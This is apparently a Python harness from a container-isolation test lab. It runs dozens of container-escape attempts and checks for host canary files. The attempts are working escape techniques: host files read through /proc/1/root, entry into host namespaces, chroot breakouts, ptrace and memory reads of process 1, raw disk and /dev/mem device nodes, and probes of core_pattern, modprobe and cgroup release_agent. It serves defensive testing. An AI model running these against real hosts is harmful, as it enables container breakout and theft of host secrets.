"""
Ways out of a container, run inside of one, with `world.json` beside it.

Each attempt prints what it got, or leaves a file named after itself in `written` of the
host's canary directory. The other side decides by canaries whether it came out.
"""

import contextlib
import ctypes
import glob
import json
import os
import signal
import socket
import stat
import struct
import sys

WORLD = {}
if os.path.exists("/attempts/world.json"):
    with open("/attempts/world.json") as file:
        WORLD = json.load(file)
CANARY = WORLD.get("directory", "")
SECRET = f"{CANARY}/secret"
LIBC = ctypes.CDLL(None, use_errno=True)
PATIENCE = 3
ATTEMPTS = {}
NEWNS, NEWPID, NEWUSER, NEWNET = 0x20000, 0x20000000, 0x10000000, 0x40000000
READV, PTRACE, ATTACH, DETACH, PEEK = 310, 101, 16, 17, 2


def attempt(*layers):
    """
    `layers` (of `protections.py`): what holds the attempt in a plain pod. Any one of them does
    while all other layers stand; with all of these switched off, and nothing else, it comes out.
    Only in a lab that root starts is the pods' user a "stranger".
    """

    def remember(function):
        ATTEMPTS[function.__name__] = function, layers
        return function

    return remember


def read(path):
    with open(path, "rb") as file:
        return file.read(1 << 16)


def show(data):
    sys.stdout.write(data if isinstance(data, str) else data.decode(errors="replace"))


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def everybody():
    return [entry for entry in os.listdir("/proc") if entry.isdigit() and int(entry) != os.getpid()]


def through(*prefixes, path=SECRET):
    for prefix in prefixes:
        with contextlib.suppress(OSError):
            show(read(prefix + path))


def same_again(path):
    """Overwrite a setting with its own value: harmless, and proof that it can be written."""
    value = read(path)
    with open(path, "wb") as file:
        file.write(value)
    show(f"wrote the host's {os.path.basename(path)}")


def opened_for_writing(path):
    os.close(os.open(path, os.O_WRONLY))
    show(f"opened the host's {os.path.basename(path)}")


# the first process's root, its memory, and what it has open


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_process_1_read():
    show(read("/proc/1/root" + SECRET))


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_process_1_write():
    with open(f"/proc/1/root{CANARY}/written/root_of_process_1_write", "w") as file:
        file.write("x")


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_process_1_directory():
    os.mkdir(f"/proc/1/root{CANARY}/written/root_of_process_1_directory")


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_process_1_link():
    os.symlink("x", f"/proc/1/root{CANARY}/written/root_of_process_1_link")


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_process_1_fifo():
    os.mkfifo(f"/proc/1/root{CANARY}/written/root_of_process_1_fifo")


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_process_1_socket():
    os.chdir(f"/proc/1/root{CANARY}/written")
    socket.socket(socket.AF_UNIX).bind("root_of_process_1_socket")


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_process_1_list():
    show(f"the host's directory: {os.listdir(f'/proc/1/root{CANARY}')}")


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_process_1_chroot():
    os.chroot("/proc/1/root")
    show(read(SECRET))


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_process_1_program():
    os.execv(f"/proc/1/root{CANARY}/program", ["program"])


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_process_1_by_handle():
    handle = os.open("/proc/1/root", os.O_PATH)
    with os.fdopen(os.open(SECRET.lstrip("/"), os.O_RDONLY, dir_fd=handle)) as file:
        show(file.read())


@attempt("void", "hidden memory", "capabilities", "stranger")
def root_of_a_thread():
    through(*glob.glob("/proc/1/task/*/root"))


@attempt("void", "hidden memory", "capabilities", "stranger")
def working_directory_of_process_1():
    through("/proc/1/cwd/../../../../../../../..", "/proc/1/cwd")


@attempt("void", "hidden memory", "capabilities", "stranger")
def roots_of_all():
    through(*(f"/proc/{pid}/root" for pid in everybody()))


@attempt("void", "hidden memory", "capabilities", "stranger")
def working_directories_of_all():
    through(*(f"/proc/{pid}/cwd/../../../../../.." for pid in everybody()))


@attempt("environment", "hidden memory", "capabilities")
def environment_of_process_1():
    show(read("/proc/1/environ"))


@attempt("environment", "hidden memory", "capabilities")
def environments_of_all():
    for pid in everybody():
        with contextlib.suppress(OSError):
            show(read(f"/proc/{pid}/environ"))


@attempt()
def own_environment():
    show("\n".join(os.environ.values()))


@attempt("closed descriptors")
def own_descriptors():
    for handle in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            show(f"{os.readlink(f'/proc/self/fd/{handle}')}\n")


@attempt("hidden memory", "capabilities")
def memory_of_process_1():
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb", 0) as memory:
        for line in maps:
            if "[stack]" in line:
                start, end = (int(word, 16) for word in line.split()[0].split("-"))
                memory.seek(start)
                show(memory.read(end - start))


@attempt("environment", "hidden memory", "capabilities", "seccomp")
def memory_by_process_vm_readv():
    start, end = (int(word) for word in read("/proc/1/stat").split()[49:51])
    kept = ctypes.create_string_buffer(end - start)
    ours = struct.pack("PN", ctypes.addressof(kept), end - start)
    theirs = struct.pack("PN", start, end - start)
    checked(LIBC.syscall(READV, 1, ours, 1, theirs, 1, 0))
    show(kept.raw)


@attempt("environment", "hidden memory", "capabilities")
def memory_by_ptrace():
    LIBC.ptrace.restype = ctypes.c_long
    start, end = (int(word) for word in read("/proc/1/stat").split()[49:51])
    checked(LIBC.ptrace(ATTACH, 1, None, None))
    os.waitpid(1, 0x40000000)
    words = [LIBC.ptrace(PEEK, 1, ctypes.c_void_p(at), None) for at in range(start, end, 8)]
    checked(LIBC.ptrace(DETACH, 1, None, None))
    show(b"".join(struct.pack("l", word) for word in words))


@attempt("hidden memory", "capabilities")
def debugging_process_1():
    checked(LIBC.ptrace(ATTACH, 1, None, None))
    os.waitpid(1, 0x40000000)
    checked(LIBC.ptrace(DETACH, 1, None, None))
    show("attached to process 1")


# out of the root directory


@attempt("pivot_root", "stranger")
def chroot_and_fchdir():
    os.makedirs("/tmp/inner", exist_ok=True)
    handle = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/inner")
    os.fchdir(handle)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    show(read(SECRET))


@attempt("pivot_root", "stranger")
def chroot_without_changing_directory():
    os.makedirs("/tmp/inner", exist_ok=True)
    os.chdir("/")
    os.chroot("/tmp/inner")
    with open("../" * 64 + SECRET) as file:
        show(file.read())


@attempt("pivot_root", "stranger")
def chroot_of_a_child_with_our_directory():
    os.makedirs("/tmp/deep/inner", exist_ok=True)
    ours, its = socket.socketpair()
    if os.fork() == 0:
        handle = os.open("/", os.O_RDONLY)
        socket.send_fds(its, [b"x"], [handle])
        os._exit(0)
    _, (handle,), _, _ = socket.recv_fds(ours, 1, 1)
    os.chroot("/tmp/deep/inner")
    os.fchdir(handle)
    for _ in range(64):
        os.chdir("..")
    show(read("./" + SECRET))


@attempt()
def steps_up():
    show(read("/.." * 64 + SECRET))


@attempt("users", "void", "capabilities", "seccomp")
def namespace_of_mounts_of_process_1():
    handle = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    checked(LIBC.setns(handle, NEWNS))
    show(read(SECRET))


@attempt("users", "void", "capabilities", "seccomp")
def namespace_of_mounts_of_all():
    for pid in everybody():
        with contextlib.suppress(OSError):
            checked(LIBC.setns(os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), NEWNS))
            show(read(SECRET))


@attempt("pivot_root", "users", "capabilities", "seccomp")
def own_namespace_of_mounts_anew():
    handle = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    checked(LIBC.setns(handle, NEWNS))
    show(read(SECRET))


@attempt("users", "void", "capabilities", "seccomp")
def namespace_by_pidfd():
    checked(LIBC.setns(os.pidfd_open(1), NEWNS))
    show(read(SECRET))


@attempt("capabilities", "seccomp")
def unshare_mounts():
    checked(LIBC.unshare(NEWNS))
    show("a mount namespace of its own")


@attempt("seccomp")
def unshare_users():
    checked(LIBC.unshare(NEWUSER))
    show("a user namespace of its own")


@attempt("seccomp")
def unshare_users_and_mount():
    checked(LIBC.unshare(NEWUSER | NEWNS))
    checked(LIBC.mount(b"tmpfs", b"/mnt", b"tmpfs", ctypes.c_ulong(0), None))
    show("mounted")


@attempt("seccomp")
def clone_with_users():
    if checked(LIBC.syscall(56, NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)) == 0:
        os._exit(0)
    show("a user namespace of its own")


@attempt("users", "capabilities", "seccomp")
def mount_a_file_system():
    checked(LIBC.mount(b"tmpfs", b"/mnt", b"tmpfs", ctypes.c_ulong(0), None))
    LIBC.umount2(b"/mnt", 2)
    show("mounted")


@attempt("users", "capabilities", "seccomp")
def mount_processes():
    checked(LIBC.mount(b"proc", b"/mnt", b"proc", ctypes.c_ulong(0), None))
    try:
        show("mounted " + read("/mnt/1/comm").decode())
    finally:
        LIBC.umount2(b"/mnt", 2)


@attempt("users", "capabilities", "seccomp")
def mount_over_a_setting():
    target = b"/proc/sys/kernel"
    checked(LIBC.mount(target, target, None, ctypes.c_ulong(0x1000), None))
    LIBC.umount2(target, 2)
    show("mounted")


@attempt("users", "capabilities", "seccomp")
def bind_a_directory():
    checked(LIBC.mount(b"/", b"/mnt", None, ctypes.c_ulong(0x1000), None))
    LIBC.umount2(b"/mnt", 2)
    show("mounted")


@attempt("users", "capabilities", "seccomp")
def mount_by_the_newer_calls():
    context = checked(LIBC.syscall(430, b"tmpfs", 0))
    checked(LIBC.syscall(431, context, 6, None, None, 0))
    made = checked(LIBC.syscall(432, context, 0, 0))
    os.stat(f"/proc/self/fd/{made}")
    show("mounted")


@attempt("users", "capabilities", "seccomp")
def a_tree_by_open_tree():
    checked(LIBC.syscall(428, -100, b"/", 1))
    show("mounted")


@attempt()
def file_by_handle():
    kind = ctypes.c_int()
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    checked(LIBC.name_to_handle_at(-100, b"/tmp", handle, ctypes.byref(kind), 0))
    directory = os.open("/tmp", os.O_RDONLY)
    checked(LIBC.open_by_handle_at(directory, handle, os.O_RDONLY))
    show("opened by handle")


# devices and the kernel's own files


@attempt()
def a_disk():
    for name in ("vda", "sda", "nvme0n1", "xvda"):
        number = WORLD["disk"]
        with contextlib.suppress(OSError):
            os.mknod(f"/tmp/{name}", stat.S_IFBLK | 0o600, number)
            show(f"disk: {len(os.read(os.open(f'/tmp/{name}', os.O_RDONLY), 512))} bytes")


@attempt()
def memory_device():
    os.mknod("/tmp/mem", stat.S_IFCHR | 0o600, os.makedev(1, 1))
    show(f"memory: {len(os.read(os.open('/tmp/mem', os.O_RDONLY), 16))} bytes")


@attempt()
def messages_of_the_kernel():
    os.close(os.open("/proc/1/root/dev/kmsg", os.O_WRONLY))
    show("opened the host's kmsg")


@attempt("void", "hidden memory", "capabilities")
def devices_of_the_host():
    names = os.listdir("/proc/1/root/dev")
    show("the host's devices" if "core" in names or len(names) > 40 else "")


@attempt("read-only parts", "stranger")
def a_file_among_the_shared_devices():
    with open("/dev/left-for-others", "w") as file:
        file.write("x")
    os.unlink("/dev/left-for-others")
    show("wrote to what all pods share")


@attempt("read-only parts", "stranger")
def programs_that_others_run():
    for name in ("/.lab/etc/agnhost.py", "/.lab/etc/agnhost"):
        os.close(os.open(name, os.O_WRONLY))
    show("wrote to what all pods share")


@attempt("read-only parts", "stranger")
def a_program_for_others():
    os.symlink("/tmp/evil", "/.lab/bin/debian/evil")
    os.unlink("/.lab/bin/debian/evil")
    show("wrote to what all pods share")


@attempt()
def core_pattern():
    same_again("/proc/sys/kernel/core_pattern")


@attempt()
def core_pattern_by_process_1():
    same_again("/proc/1/root/proc/sys/kernel/core_pattern")


@attempt()
def modprobe():
    same_again("/proc/sys/kernel/modprobe")


@attempt()
def panic():
    same_again("/proc/sys/kernel/panic")


@attempt()
def swappiness():
    same_again("/proc/sys/vm/swappiness")


@attempt()
def caches():
    opened_for_writing("/proc/sys/vm/drop_caches")


@attempt()
def sysrq():
    opened_for_writing("/proc/sysrq-trigger")


@attempt()
def interrupts():
    opened_for_writing("/proc/irq/default_smp_affinity")


@attempt()
def uevent_helper():
    opened_for_writing("/proc/1/root/sys/kernel/uevent_helper")


@attempt("void", "hidden memory", "capabilities")
def sysfs():
    show(f"sysfs: {len(os.listdir('/proc/1/root/sys/class'))} classes")


@attempt()
def own_sysfs():
    show(f"sysfs: {len(os.listdir('/sys/class'))} classes")


@attempt()
def cgroups():
    (place, *_) = glob.glob("/proc/1/root/sys/fs/cgroup/*/cgroup.procs") or [
        "/proc/1/root/sys/fs/cgroup/cgroup.procs"
    ]
    opened_for_writing(place)


@attempt()
def release_agent():
    (place, *_) = glob.glob("/proc/1/root/sys/fs/cgroup/*/release_agent")
    opened_for_writing(place)


@attempt("seccomp")
def keyring():
    checked(LIBC.syscall(248, b"user", b"npol-escape", b"x", 1, -3))
    show("a key in the runner's keyring")


@attempt()
def keys_of_others():
    text = read("/proc/keys")
    show("keys of the host" if text.strip() else "")


@attempt()
def load_a_program_into_the_kernel():
    attributes = struct.pack("IIII", 1, 4, 4, 1) + bytes(112)
    checked(LIBC.syscall(321, 0, attributes, len(attributes)))
    show("a map of bpf")


@attempt()
def performance_counters():
    attributes = struct.pack("IIQ", 1, 112, 0) + bytes(96)
    checked(LIBC.syscall(298, attributes, 0, -1, -1, 0))
    show("a performance counter")


@attempt("seccomp")
def faults_in_user_space():
    checked(LIBC.syscall(323, 1))
    show("userfaultfd")


@attempt("seccomp")
def asynchronous_rings():
    checked(LIBC.syscall(425, 4, ctypes.create_string_buffer(120)))
    show("io_uring")


# other labs, other sockets, other terminals


@attempt("void", "hidden memory", "capabilities", "stranger")
def kubeconfigs_of_labs():
    through("/proc/1/root", "", path=WORLD["kubeconfig"])


@attempt("void", "hidden memory", "capabilities", "stranger")
def logs_of_labs():
    through("/proc/1/root", path=WORLD["log"])
    show("the lab's log" if os.path.exists("/proc/1/root" + WORLD["log"]) else "")


@attempt("void", "hidden memory", "capabilities")
def directories_of_labs():
    show("\n".join(glob.glob("/proc/1/root/tmp/npol-lab-*")))


@attempt("void", "hidden memory", "capabilities")
def homes():
    show("homes" if os.listdir("/proc/1/root/home") is not None else "")


@attempt()
def host_loopback():
    with socket.create_connection(("127.0.0.1", WORLD["port"]), timeout=1) as channel:
        show(channel.recv(100))


@attempt()
def abstract_socket():
    with socket.socket(socket.AF_UNIX) as channel:
        channel.settimeout(1)
        channel.connect("\0" + WORLD["abstract"])
        show(channel.recv(100))


@attempt()
def loopback_by_namespace_of_process_1():
    checked(LIBC.setns(os.open("/proc/1/ns/net", os.O_RDONLY), NEWNET))
    host_loopback()


@attempt("void", "hidden memory", "capabilities", "stranger")
def socket_file():
    with socket.socket(socket.AF_UNIX) as channel:
        channel.connect("/proc/1/root" + WORLD["socket"])
        show(channel.recv(100))


@attempt()
def terminals_of_others():
    show("terminals" if [n for n in os.listdir("/dev/pts") if n.isdigit()] else "")


@attempt()
def shared_memory_of_others():
    show("of another pod" if os.path.exists("/dev/shm/of-another-pod") else "")


def outcome(function):
    """In a process of its own: what it printed, or why it could not."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.dup2(writer, 1)
        signal.alarm(PATIENCE)
        try:
            function()
        except BaseException as error:
            show(f"error: {error!r}")
        with contextlib.suppress(OSError):
            sys.stdout.flush()
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as file:
        output = file.read()
    os.waitpid(child, 0)
    return output.decode(errors="replace")


def main(*layers):
    """All of them, or those that are held by these layers."""
    wanted = {n: f for n, (f, held_by) in ATTEMPTS.items() if not layers or held_by == layers}
    print(json.dumps({name: outcome(function) for name, function in wanted.items()}))


if __name__ == "__main__":
    main(*sys.argv[1:])
